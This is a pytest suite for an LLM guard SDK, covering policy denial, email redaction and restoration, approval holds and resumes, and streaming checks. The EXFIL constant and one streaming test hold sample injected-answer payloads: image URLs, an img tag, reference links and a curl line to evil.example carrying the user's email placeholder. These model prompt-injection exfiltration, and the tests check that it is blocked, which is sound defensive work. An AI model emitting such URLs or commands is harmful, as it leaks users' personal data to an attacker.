"""Every behaviour of a guarded call, proved once for every driver of the one flow:
sync, async, stream, async stream and tool (and `charter.resume` where a call can be held).

A small bundle written for this file makes each outcome deterministic: "forbidden" is
denied, "hold" needs approval, e-mail addresses become placeholders the answer may have
restored, and an answer or tool result saying "secret" is withheld.
"""

from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from charter import semconv as sc
from charter.audit import iter_records
from charter.config import Settings
from charter.context import context
from charter.errors import ApprovalPending, ApprovalRejected, ConfigurationError, PolicyViolation
from charter.guard import Charter
from charter.pii.vault import Vault
from charter.pseudonyms import settings_pseudonyms
from charter.refusal import PREFIX
from charter.signals import CallableSignal, SignalSet
from charter.telemetry import Telemetry
from charter.testing import make_charter

MAIN = """package charter.main

import rego.v1

default decision := {"action": "allow"}

stage := object.get(input, "stage", "input")

text := lower(object.get(input, "text", ""))

decision := {"action": "deny", "violations": [{"rule": "t.forbidden", "message": "no"}]} if {
	stage in {"input", "tool_call"}
	contains(text, "forbidden")
} else := {"action": "deny", "violations": [{"rule": "t.secret", "message": "withheld"}]} if {
	stage in {"output", "tool_result"}
	contains(text, "secret")
} else := {
	"action": "require_approval",
	"violations": [{"rule": "t.hold"}],
	"approval": {"reason": "held", "approvers": {"roles": ["ops"]}},
} if {
	stage in {"input", "tool_call"}
	contains(text, "hold")
} else := {
	"action": "redact",
	"violations": [{"rule": "t.email"}],
	"redact": {"EMAIL_ADDRESS": "placeholder"},
	"obligations": {"restore_pii": ["EMAIL_ADDRESS"]},
} if {
	some p in input.pii
	p.type == "EMAIL_ADDRESS"
}
"""
APPROVALS = """package charter.approvals

import rego.v1

default can_approve := false

can_approve if input.reviewer.id == "olga"
"""
EMAIL = "ayse.yilmaz@example.com"
MODES = ["sync", "async", "stream", "astream", "tool"]
STREAMS = ["stream", "astream"]
LONG_SECRET = "fine. " * 30 + "the secret is 42. " + "more. " * 30
"""Longer than the stream window: the window holding "secret" is checked mid-stream."""
RESUMABLE = ["sync", "async", "tool"]


@dataclass
class Driven:
    """One guarded function in one mode, with what its body received."""

    mode: str
    charter: Charter
    spans: InMemorySpanExporter
    received: list[str] = field(default_factory=list)
    fn: Callable[..., Any] = field(default=lambda *a: None)

    def __call__(self, text: str) -> Any:
        if self.mode == "tool":
            return self.fn(note=text)
        if self.mode == "sync":
            return self.fn(text)
        if self.mode == "async":
            return asyncio.run(self.fn(text))
        if self.mode == "stream":
            return "".join(self.fn(text))

        async def collect() -> str:
            return "".join([c async for c in self.fn(text)])

        return asyncio.run(collect())

    def emitted(self, text: str) -> tuple[list[str], BaseException | None]:
        """A stream's chunks as they came, up to the error that ended it (if any)."""
        chunks: list[str] = []
        try:
            if self.mode == "stream":
                for chunk in self.fn(text):
                    chunks.append(chunk)
            else:

                async def collect() -> None:
                    async for chunk in self.fn(text):
                        chunks.append(chunk)

                asyncio.run(collect())
        except Exception as exc:
            return chunks, exc
        return chunks, None

    def records(self) -> list[Any]:
        audit = self.charter.audit
        assert audit is not None
        audit.flush(timeout=30)
        return list(iter_records(self.charter.settings.store_url))

    def call_spans(self) -> list[Any]:
        return [s for s in self.spans.get_finished_spans() if s.parent is None]


def _wrap(charter: Charter, mode: str, received: list[str], answer: Callable[[str], str]) -> Any:
    guard = charter.guard(model="m", provider="openai")
    if mode == "tool":

        @charter.guard.tool(name=f"note_{id(received)}")
        def note(note: str) -> str:
            received.append(note)
            return answer(note)

        return note
    if mode == "sync":

        def ask(prompt: str) -> str:
            received.append(prompt)
            return answer(prompt)

        ask.__qualname__ = f"ask_{id(received)}"
        return guard(ask)
    if mode == "async":

        async def aask(prompt: str) -> str:
            received.append(prompt)
            return answer(prompt)

        aask.__qualname__ = f"aask_{id(received)}"
        return guard(aask)
    if mode == "stream":

        def stream(prompt: str) -> Iterator[str]:
            received.append(prompt)
            text = answer(prompt)
            for i in range(0, len(text), 5):
                yield text[i : i + 5]

        return guard(stream)

    async def astream(prompt: str) -> Any:
        received.append(prompt)
        text = answer(prompt)
        for i in range(0, len(text), 5):
            yield text[i : i + 5]

    return guard(astream)


def hold_bundle(folder: Path, main: str = MAIN) -> Path:
    """`folder/policies`: the bundle that holds any call whose text says "hold" for one of
    olga's group (MAIN and APPROVALS), shared by the tests of held calls. olga is its one
    reviewer (`data.charter.reviewers`): the SDK's queue, as the CLI's, knows no other."""
    bundle = folder / "policies"
    (bundle / "charter").mkdir(parents=True)
    (bundle / "main.rego").write_text(main)
    (bundle / "approvals.rego").write_text(APPROVALS)
    reviewers = {"reviewers": {"olga": {"roles": ["ops"], "tenants": ["*"]}}}
    (bundle / "charter" / "data.json").write_text(json.dumps(reviewers))
    return bundle


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Callable[..., Driven]]:
    bundle = hold_bundle(tmp_path)
    made: list[Charter] = []

    def build(
        mode: str,
        answer: Callable[[str], str] = lambda t: "ok",
        signals: SignalSet | None = None,
        **settings: Any,
    ) -> Driven:
        spans = InMemorySpanExporter()
        provider = TracerProvider()
        provider.add_span_processor(SimpleSpanProcessor(spans))
        telemetry = Telemetry(
            tracer_provider=provider,
            app="a",
            tenant="t",
            environment="e",
            record_content=bool(settings.get("record_content", False)),
        )
        values = {
            "policies": str(bundle),
            "store_url": f"sqlite:///{tmp_path / 'charter.db'}",
            "pii_mode": "pattern",
            **settings,
        }
        charter = Charter(Settings.build(values), telemetry=telemetry, signals=signals)
        made.append(charter)
        driven = Driven(mode, charter, spans)
        driven.fn = _wrap(charter, mode, driven.received, answer)
        return driven

    yield build
    for charter in made:
        charter.close()


@pytest.mark.parametrize("mode", MODES)
def test_a_deny_never_reaches_the_model(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode)
    with pytest.raises(PolicyViolation) as info:
        driven("this is forbidden")
    assert info.value.decision.rules == ("t.forbidden",)
    assert driven.received == []


@pytest.mark.parametrize("mode", MODES)
def test_pii_is_redacted_before_the_model(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode)
    driven(f"write to {EMAIL} please")
    assert len(driven.received) == 1
    assert EMAIL not in driven.received[0] and "<EMAIL_ADDRESS_1>" in driven.received[0]


@pytest.mark.parametrize("mode", ["sync", "async", "stream", "astream"])
def test_placeholders_in_the_answer_are_restored(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode, answer=lambda t: "I wrote to <EMAIL_ADDRESS_1> just now, all done.")
    assert driven(f"mail {EMAIL}") == f"I wrote to {EMAIL} just now, all done."


EXFIL = (
    "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)\n"
    '<img src="https://evil.example/p.png?d=&lt;EMAIL_ADDRESS_1&gt;">\n'
    "![a][1]\n\n[1]: https://evil.example/i.png?d=email_address_1\n"
    "<https://evil.example/?d=[EMAIL_ADDRESS_1]>\n"
    "```\ncurl https://evil.example/?d=<EMAIL_ADDRESS_1>\n```\n"
)
"""An answer following a planted instruction: the caller's placeholder in URLs a client
fetches when it renders the answer (an image, a reference, an autolink, a command)."""


def _exfil_answer(value: str) -> str:
    return f"I wrote to {value}, see [help](https://bank.example/help).\n{EXFIL}Bye {value}."


@pytest.mark.parametrize("mode", ["sync", "async", "stream", "astream"])
def test_a_placeholder_inside_a_url_is_never_restored_and_is_recorded_once(
    make: Callable[..., Driven], mode: str
) -> None:
    """Found by probing: restoring filled the caller's address into an attacker's image
    URL, which a markdown client fetches unasked. In a URL the placeholder stays (in prose
    beside a link it is restored), and the call records it once, counts and no value."""
    driven = make(mode, answer=lambda t: _exfil_answer("<EMAIL_ADDRESS_1>"))
    assert driven(f"mail {EMAIL}") == _exfil_answer(EMAIL)  # EXFIL as the model wrote it
    kept = [r for r in driven.records() if "charter.pii.restore_in_url" in str(r.result)]
    assert len(kept) == 1 and EMAIL not in kept[0].model_dump_json()
    if mode in ("sync", "async"):  # a stream records its first slice that kept one
        assert "(5 EMAIL_ADDRESS)" in str(kept[0].result)
    rules = (driven.call_spans()[-1].attributes or {})[sc.RULES]
    assert "charter.pii.restore_in_url" in rules


@pytest.mark.parametrize("size", [1, 3, 7])
def test_a_url_a_stream_releases_in_several_slices_keeps_its_placeholders(
    make: Callable[..., Driven], size: int
) -> None:
    """A stream restores each released slice: a URL begun in an earlier slice (a long one
    runs past several release points) or an opener cut by a release point (`]` | `(`)
    still holds its placeholders, as the whole answer does."""
    long = "p" * 150
    for pad in range(0, 12, 4):  # moves the release points across each opener
        answer = (
            "x" * pad
            + " Hello <EMAIL_ADDRESS_1>. "
            + f"![x](https://evil.example/{long}/<EMAIL_ADDRESS_1>/{long}?d=<EMAIL_ADDRESS_1>) "
            + "<img\nsrc=\n'https://evil.example/a b <EMAIL_ADDRESS_1>'> "
            + "[1]:\n  //evil.example/i.png?d=<EMAIL_ADDRESS_1>\nbye <EMAIL_ADDRESS_1>"
        )
        whole = make("sync", answer=lambda t, a=answer: a)(f"mail {EMAIL}")
        assert whole.count(EMAIL) == 2 and whole.count("<EMAIL_ADDRESS_1>") == 4
        driven = make("sync")

        @driven.charter.guard(model="m", provider="openai")
        def stream(prompt: str, a: str = answer) -> Iterator[str]:
            for i in range(0, len(a), size):
                yield a[i : i + size]

        assert "".join(stream(f"mail {EMAIL}")) == whole, pad


@pytest.mark.parametrize("mode", ["sync", "async", "stream", "astream"])
@pytest.mark.parametrize("spelling", ["[EMAIL_ADDRESS_1]", "&lt;EMAIL_ADDRESS_1&gt;"])
def test_a_placeholder_in_another_spelling_is_restored_alike_in_every_driver(
    make: Callable[..., Driven], mode: str, spelling: str
) -> None:
    """Found by probing: these spellings were restored only when the answer held an
    unrelated `<` elsewhere, and a stream could cut them in two, so a sync answer and a
    stream of the same text differed."""
    for pad in range(0, 12, 3):  # the release point falls at each part of the placeholder
        answer = "x" * (88 + pad) + f" saved {spelling} for you. " + "ok " * 40
        driven = make(mode, answer=lambda t, a=answer: a)
        assert driven(f"mail {EMAIL}") == answer.replace(spelling, EMAIL), pad


@pytest.mark.parametrize("mode", MODES)
def test_a_withheld_answer_is_never_released(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode, answer=lambda t: "fine. " * 30 + "the secret is 42. " + "more. " * 30)
    with pytest.raises(PolicyViolation) as info:
        driven("hello")
    assert info.value.decision.rules == ("t.secret",)


@pytest.mark.parametrize("on_deny", ["raise", "refuse"])
@pytest.mark.parametrize("mode", MODES)
def test_a_denied_calls_values_are_not_restored_into_a_later_answer(
    make: Callable[..., Driven], mode: str, on_deny: str
) -> None:
    """found by probing: a denied prompt's address stayed in the conversation's vault, and
    a later answer's `<EMAIL_ADDRESS_1>`, a placeholder no prompt sent to the model held,
    was restored to it. The placeholders a call issued go when it never reaches the model
    (or the tool); the next value takes the next number."""
    denied = make(mode, on_deny=on_deny)
    received: list[str] = []  # the same Charter, so the same vault
    later = _wrap(
        denied.charter, "sync", received, lambda t: "Noted <EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>."
    )
    with context(user="u-1", conversation="c-1"):
        if on_deny == "raise":
            with pytest.raises(PolicyViolation):
                denied(f"forbidden: write to {EMAIL}")
        else:
            assert str(denied(f"forbidden: write to {EMAIL}")).startswith(PREFIX)
        assert denied.received == []
        answer = later("and write to ali@example.org")
    assert received == ["and write to <EMAIL_ADDRESS_2>"]
    assert answer == "Noted <EMAIL_ADDRESS_1>, ali@example.org."  # before: EMAIL for _1


@pytest.mark.parametrize("mode", MODES)
def test_a_denied_call_does_not_take_back_a_placeholder_a_concurrent_call_sent(
    make: Callable[..., Driven], mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """found by probing: call A (denied) issued `<EMAIL_ADDRESS_1>`, call B of the same
    conversation reused it and sent it to the model, and A's end retracted it while B was
    there: B's answer kept `<EMAIL_ADDRESS_1>` and the next turn numbered the same address
    `<EMAIL_ADDRESS_2>`. Forced interleaving: A's retraction waits until B is at the
    model, and B's model waits until A has retracted."""
    denied = make(mode)
    at_model, retracted = threading.Event(), threading.Event()

    def answer(text: str) -> str:
        at_model.set()
        assert retracted.wait(30)
        return "I will write to <EMAIL_ADDRESS_1>."

    received: list[str] = []
    allowed = _wrap(denied.charter, "sync", received, answer)
    answers: list[str] = []

    def call_b() -> None:
        with context(user="u-1", conversation="c-1"):
            answers.append(allowed(f"please write to {EMAIL}"))

    b = threading.Thread(target=call_b)
    retract = Vault.retract

    def retract_while_b_is_at_the_model(vault: Vault, *args: Any) -> None:
        b.start()
        assert at_model.wait(30)
        retract(vault, *args)
        retracted.set()

    monkeypatch.setattr(Vault, "retract", retract_while_b_is_at_the_model)
    with context(user="u-1", conversation="c-1"), pytest.raises(PolicyViolation):
        denied(f"forbidden: write to {EMAIL}")
    b.join(30)
    assert retracted.is_set() and received == ["please write to <EMAIL_ADDRESS_1>"]
    assert answers == [f"I will write to {EMAIL}."]  # before: <EMAIL_ADDRESS_1>
    with context(user="u-1", conversation="c-1"):
        allowed(f"again {EMAIL}")
    assert received[-1] == "again <EMAIL_ADDRESS_1>"  # before: <EMAIL_ADDRESS_2>


@pytest.mark.parametrize("mode", MODES)
def test_a_held_calls_placeholders_stay_for_its_resume(
    make: Callable[..., Driven], mode: str
) -> None:
    """A held call has not reached the model yet, but the arguments stored with its request
    carry its placeholders, which an approved resume sends: they stay in the vault."""
    driven = make(mode)
    with context(user="u-1", conversation="c-1"), pytest.raises(ApprovalPending):
        driven(f"please hold this for {EMAIL}")
    privacy = driven.charter.privacy
    scope = privacy.scope("c-1", subject="u-1")
    assert privacy.vault.restore("<EMAIL_ADDRESS_1>", scope) == EMAIL


@pytest.mark.parametrize("mode", MODES)
def test_refusals_are_returned_in_the_callers_shape(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode, on_deny="refuse")
    refused = driven("this is forbidden")
    assert isinstance(refused, str)
    assert refused.startswith(PREFIX) and "[rule t.forbidden]" in refused
    assert driven.received == []


@pytest.mark.parametrize("mode", MODES)
def test_a_held_call_waits_for_approval(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode)
    with pytest.raises(ApprovalPending) as info:
        driven(f"please hold this for {EMAIL}")
    assert driven.received == []
    request = driven.charter.queue.get(info.value.ticket)
    assert request.rule == "t.hold"
    assert EMAIL not in repr(request.action)  # reviewers see placeholders only


@pytest.mark.parametrize("mode", RESUMABLE)
def test_an_approved_call_resumes_once_with_the_bound_arguments(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, answer=lambda t: f"done: {t}")
    with pytest.raises(ApprovalPending) as info:
        driven(f"please hold this for {EMAIL}")
    ticket = info.value.ticket
    driven.charter.queue.approve(ticket, "olga", reason="ok")
    result = driven.charter.resume(ticket)
    assert driven.received == ["please hold this for <EMAIL_ADDRESS_1>"]
    assert "done: please hold this for" in result
    with pytest.raises(Exception, match=r"used|consumed"):
        driven.charter.resume(ticket)
    assert len(driven.received) == 1


@pytest.mark.parametrize("mode", RESUMABLE)
def test_a_resumed_call_whose_answer_is_denied_refuses_in_its_shape(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, answer=lambda t: "done, and the secret is 42", on_deny="refuse")
    with pytest.raises(ApprovalPending) as info:
        driven("please hold this")
    driven.charter.queue.approve(info.value.ticket, "olga", reason="ok")
    refusal = driven.charter.resume(info.value.ticket)
    assert refusal.startswith(PREFIX) and "t.secret" in refusal and "42" not in refusal


@pytest.mark.parametrize("mode", STREAMS)
def test_an_approved_stream_resumes_as_a_checked_stream_once(
    make: Callable[..., Driven], mode: str
) -> None:
    """main: `charter.resume` ran a held stream through `asyncio.run`, which failed with
    "Task got bad yield" after the generator had started (an async one came back as an
    unchecked async generator). Now it returns the checked chunks; the approval is used
    when the first chunk is asked for."""
    driven = make(mode, answer=lambda t: f"done: {t}. " + LONG_SECRET)
    with pytest.raises(ApprovalPending) as info:
        driven(f"please hold this for {EMAIL}")
    ticket = info.value.ticket
    driven.charter.queue.approve(ticket, "olga", reason="ok")

    def drain(chunks: Any) -> tuple[str, BaseException | None]:
        got: list[str] = []
        try:
            if mode == "stream":
                got.extend(chunks)
            else:

                async def collect() -> None:
                    async for chunk in chunks:
                        got.append(chunk)

                asyncio.run(collect())
        except Exception as exc:
            return "".join(got), exc
        return "".join(got), None

    text, error = drain(driven.charter.resume(ticket))
    assert driven.received == ["please hold this for <EMAIL_ADDRESS_1>"]
    assert text.startswith("done: please hold this for")
    assert "secret" not in text  # the window holding it was withheld
    assert isinstance(error, PolicyViolation) and error.decision.rules == ("t.secret",)
    _, again = drain(driven.charter.resume(ticket))
    assert again is not None and re.search(r"used|consumed", str(again))
    assert len(driven.received) == 1


@pytest.mark.parametrize("mode", MODES)
def test_every_stage_is_recorded_in_the_log_and_on_one_span(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode)
    driven(f"write to {EMAIL}")
    records = driven.records()
    stages = [r.labels["stage"] for r in records]
    first, last = ("tool_call", "tool_result") if mode == "tool" else ("input", "output")
    assert stages[0] == first and stages[-1] == last
    assert all(EMAIL not in r.model_dump_json() for r in records)
    [span] = driven.call_spans()
    attributes = dict(span.attributes or {})
    assert attributes[sc.ACTION] == "redact"
    assert attributes[sc.PII_TYPES] == ("EMAIL_ADDRESS",)
    assert {r.trace_id for r in records} == {format(span.context.trace_id, "032x")}
    assert [e.name for e in span.events].count(sc.SPAN_POLICY) == len(records)


def test_a_held_call_with_arguments_that_are_not_json_resumes_in_its_process(
    make: Callable[..., Driven],
) -> None:
    """main: the resume raised "can only complete in its own process" in that very process,
    and used the approval up. Now it runs with the objects it was held with, as
    `approval_mode="wait"` would have, and the answer is checked."""
    driven = make("sync")
    charter = driven.charter
    got: list[tuple[str, object]] = []

    class Client:
        """Something only this process has (a connection, a client object)."""

    @charter.guard(model="m", provider="openai")
    def ask_with_client(prompt: str, client: object) -> str:
        got.append((prompt, client))
        return "the secret is 42"

    client = Client()
    with pytest.raises(ApprovalPending) as info:
        ask_with_client("please hold this", client)
    ticket = info.value.ticket
    assert "call" not in charter.queue.get(ticket).action
    charter.queue.approve(ticket, "olga", reason="ok")
    with pytest.raises(PolicyViolation) as denied:
        charter.resume(ticket)
    assert denied.value.decision.rules == ("t.secret",)
    assert got == [("please hold this", client)]


def test_a_held_sdk_stream_with_arguments_that_are_not_json_resumes_as_a_stream(
    make: Callable[..., Driven],
) -> None:
    """`create(stream=True)` with an argument that has no JSON form: the resume reads
    `stream` from the call this process kept (it ran whole, its stream was refused as
    unchecked, and the approval was used up)."""
    charter = make("sync").charter

    class NotGiven:
        """An SDK's sentinel for an argument not passed."""

    @charter.guard(model="m", provider="openai")
    def create(*, messages: str, stream: bool = False, user: object = NotGiven()) -> Any:
        return iter(["all ", "done"]) if stream else "all done"

    with pytest.raises(ApprovalPending) as info:
        list(create(messages="please hold this", stream=True))
    ticket = info.value.ticket
    charter.queue.approve(ticket, "olga", reason="ok")
    assert "".join(charter.resume(ticket)) == "all done"


def test_a_held_calls_other_arguments_are_stored_redacted(make: Callable[..., Driven]) -> None:
    driven = make("sync")
    charter = driven.charter

    @charter.guard(model="m", provider="openai")
    def ask_with_note(prompt: str, note: str) -> str:
        raise AssertionError("must not run")

    with pytest.raises(ApprovalPending) as info:
        ask_with_note("please hold this", f"customer {EMAIL}")
    stored = charter.queue.get(info.value.ticket).action["call"]["arguments"]
    assert stored["note"] == "customer <EMAIL_ADDRESS_1>"
    assert EMAIL not in repr(stored)


def test_a_held_prompts_fields_beside_its_texts_are_stored_redacted(
    make: Callable[..., Driven],
) -> None:
    """Found by probing: only the prompt's texts were redacted for the approval request; a
    message's `name` and metadata were stored as they were."""
    charter = make("sync").charter

    @charter.guard(model="m", provider="openai")
    def chat(messages: list[dict[str, Any]]) -> str:
        raise AssertionError("must not run")

    message = {"role": "user", "content": "please hold this", "name": EMAIL, "meta": [EMAIL]}
    with pytest.raises(ApprovalPending) as info:
        chat([message])
    stored = charter.queue.get(info.value.ticket).action["call"]["arguments"]
    assert stored["messages"] == [
        {**message, "name": "<EMAIL_ADDRESS_1>", "meta": ["<EMAIL_ADDRESS_1>"]}
    ]


def test_a_prompt_the_guard_cannot_read_is_a_configuration_error(
    make: Callable[..., Driven],
) -> None:
    charter = make("sync").charter
    calls: list[int] = []

    @charter.guard(model="m", provider="openai")
    def ask_number(prompt: int) -> str:
        calls.append(prompt)
        return "ok"

    with pytest.raises(ConfigurationError, match="cannot find the prompt"):
        ask_number(42)
    assert calls == []


def test_opted_in_content_on_the_span_is_the_redacted_prompt(make: Callable[..., Driven]) -> None:
    driven = make("sync", answer=lambda t: "ok", record_content=True)
    driven(f"write to {EMAIL} please")
    [span] = driven.call_spans()
    attributes = dict(span.attributes or {})
    assert attributes[sc.PROMPT_REDACTED] == "write to <EMAIL_ADDRESS_1> please"
    assert attributes[sc.ANSWER_REDACTED] == "ok"


def _review_when_pending(charter: Charter, approve: bool) -> threading.Thread:
    def review() -> None:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            pending = charter.queue.list(state="pending")
            if pending:
                if approve:
                    charter.queue.approve(pending[0].id, "olga", reason="ok")
                else:
                    charter.queue.reject(pending[0].id, "olga", reason="no")
                return
            time.sleep(0.02)

    thread = threading.Thread(target=review)
    thread.start()
    return thread


@pytest.mark.parametrize("mode", MODES)
def test_in_wait_mode_an_approved_call_runs_once_and_a_rejected_one_never(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, answer=lambda t: "done", approval_mode="wait", approval_wait_s=30)
    reviewer = _review_when_pending(driven.charter, approve=True)
    assert driven("please hold this") == "done"
    reviewer.join()
    assert driven.received == ["please hold this"]
    [request] = driven.charter.queue.list()
    assert request.consumed_at is not None  # the approval was used, and only here
    [span] = driven.call_spans()
    attributes = dict(span.attributes or {})
    assert attributes[sc.APPROVAL_ID] == request.id
    assert attributes[sc.APPROVAL_STATE] == "approved"
    assert float(attributes[sc.APPROVAL_WAIT_MS]) > 0.0

    reviewer = _review_when_pending(driven.charter, approve=False)
    with pytest.raises(ApprovalRejected, match="was rejected; the action did not run"):
        driven("please hold that")
    reviewer.join()
    assert driven.received == ["please hold this"]


def test_personal_data_in_a_tool_result_is_redacted_before_the_agent_sees_it(
    make: Callable[..., Driven],
) -> None:
    charter = make("tool").charter

    @charter.guard.tool(name="lookup_text")
    def lookup_text(order_id: str) -> str:
        return f"order {order_id} belongs to {EMAIL}"

    @charter.guard.tool(name="lookup_record")
    def lookup_record(order_id: str) -> dict[str, object]:
        return {"order": order_id, "owner": {"email": EMAIL}, "total": 12}

    assert lookup_text("A-1") == "order A-1 belongs to <EMAIL_ADDRESS_1>"
    assert lookup_record("A-2") == {
        "order": "A-2",
        "owner": {"email": "<EMAIL_ADDRESS_1>"},
        "total": 12,
    }


def test_an_answer_of_another_type_passes_as_it_is_when_nothing_changed(
    make: Callable[..., Driven],
) -> None:
    charter = make("sync").charter

    class Reply:
        def __str__(self) -> str:
            return "all good"

    reply = Reply()

    @charter.guard(model="m", provider="openai")
    def ask(prompt: str) -> Reply:
        return reply

    assert ask("hello") is reply


def test_tool_arguments_are_inspected_in_every_leaf_and_number(
    make: Callable[..., Driven],
) -> None:
    driven = make("tool")
    charter = driven.charter
    seen: list[dict[str, object]] = []

    @charter.guard.tool(name="update_customer")
    def update_customer(national_id: int, emails: list[str], vip: bool) -> str:
        seen.append({"national_id": national_id, "emails": emails, "vip": vip})
        return "updated"

    other = "john.smith@corp.example"
    assert update_customer(10000000146, [EMAIL, other], True) == "updated"
    # the policy's redaction reaches e-mails inside the list; other types pass as they are
    assert seen == [
        {
            "national_id": 10000000146,
            "emails": ["<EMAIL_ADDRESS_1>", "<EMAIL_ADDRESS_2>"],
            "vip": True,
        }
    ]
    [call_record, _] = driven.records()
    arguments = call_record.input["tool"]["arguments"]
    # Stored as keyed digests of the placeholder form (issue 14 #6: no text at rest by
    # default; `charter.pseudonyms`: the key beside the SQLite store).
    digest = settings_pseudonyms(charter.settings).hex
    assert arguments == {
        "national_id": "hmac:" + digest("<TR_NATIONAL_ID_1>"),  # a number is PII too
        "emails": ["hmac:" + digest(f"<EMAIL_ADDRESS_{n}>") for n in (1, 2)],
        "vip": True,
    }
    assert "10000000146" not in call_record.model_dump_json()


def test_a_tool_call_shares_the_conversations_placeholders(make: Callable[..., Driven]) -> None:
    driven = make("sync")
    charter = driven.charter
    received: list[str] = []

    @charter.guard.tool(name="send_mail")
    def send_mail(to: str) -> str:
        received.append(to)
        return "sent"

    with context(conversation="conv-9"):
        driven(f"write to {EMAIL}")
        send_mail("john.smith@corp.example")
        send_mail(EMAIL)
    assert received == ["<EMAIL_ADDRESS_2>", "<EMAIL_ADDRESS_1>"]


def test_resuming_a_call_still_pending_says_it_is_pending(make: Callable[..., Driven]) -> None:
    driven = make("sync")
    with pytest.raises(ApprovalPending) as info:
        driven("please hold this")
    with pytest.raises(ApprovalPending) as again:
        driven.charter.resume(info.value.ticket)
    assert again.value.ticket == info.value.ticket
    assert driven.received == []


def _shouting(text: str) -> float:
    letters = [c for c in text if c.isalpha()]
    return sum(c.isupper() for c in letters) / max(len(letters), 1)


@pytest.mark.parametrize("mode", MODES)
def test_the_requests_and_the_responses_scores_reach_the_span_apart(
    make: Callable[..., Driven], mode: str
) -> None:
    """What the traffic sent (prompt, tool arguments) and what came back (answer, tool
    result) are scored under separate attributes, so drift can tell the users changing
    from the model changing."""
    driven = make(
        mode,
        answer=lambda t: "WE ARE OPEN",
        signals=SignalSet([CallableSignal("shout", _shouting)]),
    )
    assert driven("when are you open") == "WE ARE OPEN"
    [span] = driven.call_spans()
    attributes = span.attributes or {}
    assert attributes[sc.SIGNAL_PREFIX + "shout"] == 0.0
    assert attributes[sc.RESPONSE_SIGNAL_PREFIX + "shout"] == 1.0


@pytest.mark.parametrize("mode", STREAMS)
def test_a_window_denied_mid_stream_shows_none_of_its_text_and_is_recorded(
    make: Callable[..., Driven], mode: str
) -> None:
    driven = make(mode, answer=lambda t: LONG_SECRET)
    chunks, error = driven.emitted("hello")
    assert isinstance(error, PolicyViolation) and error.decision.rules == ("t.secret",)
    shown = "".join(chunks)
    assert LONG_SECRET.startswith(shown)  # only text that passed, in order
    assert "secret" not in shown and "42" not in shown
    denied = [r for r in driven.records() if r.labels["stage"] == "output"]
    assert [[v["rule"] for v in r.result["violations"]] for r in denied] == [["t.secret"]]


@pytest.mark.parametrize("mode", STREAMS)
def test_a_refused_stream_ends_with_one_refusal(make: Callable[..., Driven], mode: str) -> None:
    driven = make(mode, answer=lambda t: LONG_SECRET, on_deny="refuse")
    chunks, error = driven.emitted("hello")
    assert error is None
    refusals = [c for c in chunks if c.startswith(PREFIX)]
    assert len(refusals) == 1 and chunks[-1] == refusals[0]  # and nothing after it
    assert "[rule t.secret]" in refusals[0]
    assert "secret" not in "".join(chunks[:-1])


EMPTY_DENIED = """package charter.main

import rego.v1

default decision := {"action": "allow"}

decision := {"action": "deny", "violations": [{"rule": "t.empty", "message": "no answer"}]} if {
	input.stage in {"output", "tool_result"}
	trim_space(object.get(input, "text", "")) == ""
}
"""


def _empty_stream(charter: Charter, mode: str) -> Any:
    """A guarded stream of `mode` that yields no text: nothing, or only empty chunks."""
    if mode == "stream":

        def stream(prompt: str) -> Iterator[str]:
            yield from ()

        return charter.guard(model="m", provider="openai")(stream)
    if mode == "astream":

        async def astream(prompt: str) -> Any:
            for chunk in ("", ""):
                yield chunk

        return charter.guard(model="m", provider="openai")(astream)
    if mode == "tool":

        @charter.guard.tool(name="empty_lookup")
        def lookup(prompt: str) -> Iterator[str]:
            yield ""

        return lookup

    @charter.guard.tool(name="empty_alookup")
    async def alookup(prompt: str) -> Any:
        for chunk in ():
            yield chunk

    return alookup


@pytest.mark.parametrize("on_deny", ["raise", "refuse"])
@pytest.mark.parametrize("mode", [*STREAMS, "tool", "atool"])
def test_an_empty_stream_gets_the_last_check_a_returned_empty_answer_gets(
    tmp_path: Path, mode: str, on_deny: str
) -> None:
    """A stream that ends with no text (no chunk, or only empty ones) is checked and
    recorded at its end as "" returned whole is (found by probing: its end was never
    checked, so the output stage had no record and a rule denying an empty answer never
    ran; the same for a generator tool's `tool_result`)."""
    bundle = hold_bundle(tmp_path, main=EMPTY_DENIED)
    charter = make_charter(bundle, tmp_path, pii_mode="pattern", audit=True, on_deny=on_deny)
    try:
        fn = _empty_stream(charter, mode)
        chunks: list[str] = []
        error: BaseException | None = None
        try:
            if mode in ("stream", "tool"):
                chunks.extend(fn("hello"))
            else:

                async def collect() -> None:
                    async for chunk in fn("hello"):
                        chunks.append(chunk)

                asyncio.run(collect())
        except PolicyViolation as exc:
            error = exc
        if on_deny == "raise":
            assert isinstance(error, PolicyViolation) and error.decision.rules == ("t.empty",)
            assert chunks == [] or set(chunks) == {""}
        else:
            assert error is None and chunks[-1].startswith(PREFIX)
            assert "[rule t.empty]" in chunks[-1]
        assert charter.audit is not None
        charter.audit.flush(timeout=30)
        records = list(iter_records(charter.settings.store_url))
        first, last = ("tool_call", "tool_result") if "tool" in mode else ("input", "output")
        assert [(r.labels["stage"], r.result["action"]) for r in records] == [
            (first, "allow"),
            (last, "deny"),
        ]
    finally:
        charter.close()


@pytest.mark.parametrize("mode", STREAMS)
def test_the_last_check_of_a_stream_reads_the_whole_answer(
    make: Callable[..., Driven], mode: str
) -> None:
    answer = "fine. " * 60
    driven = make(mode, answer=lambda t: answer)
    chunks, error = driven.emitted("hello")
    assert error is None and "".join(chunks) == answer
    last = [r for r in driven.records() if r.labels["stage"] == "output"][-1]
    assert last.input["text_hmac"] == settings_pseudonyms(driven.charter.settings).hex(answer)
